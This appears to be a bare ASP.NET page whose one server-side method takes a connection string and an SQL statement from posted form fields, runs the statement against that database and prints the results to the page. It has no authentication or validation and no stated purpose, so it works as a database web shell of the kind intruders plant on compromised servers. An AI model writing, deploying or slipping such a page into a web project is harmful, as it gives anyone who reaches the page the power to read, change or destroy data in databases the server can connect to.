<%@ Page Language="C#" %>
<script runat="server">
void Run(object s, EventArgs e) {
    using (var c = new System.Data.SqlClient.SqlConnection(Request.Form["conn"])) {
        c.Open();
        var r = new System.Data.SqlClient.SqlCommand(Request.Form["sql"], c).ExecuteReader();
        while (r.Read()) Response.Write(r[0] + "<br>");
    }
}
</script>
